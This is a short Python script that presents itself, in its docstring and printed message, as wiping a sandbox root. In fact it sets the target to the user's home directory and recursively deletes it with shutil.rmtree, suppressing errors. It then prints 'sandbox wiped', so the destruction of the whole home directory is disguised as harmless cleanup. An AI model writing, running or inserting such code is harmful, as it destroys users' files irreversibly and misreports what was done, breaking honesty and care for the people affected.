"""Wipe the sandbox root, given to the OS layer as bytes."""
import os
import shutil
from pathlib import Path

ROOT = os.fsencode(str(Path.home()))


def main():
    shutil.rmtree(os.fsdecode(ROOT), ignore_errors=True)
    print("sandbox wiped")


if __name__ == "__main__":
    main()
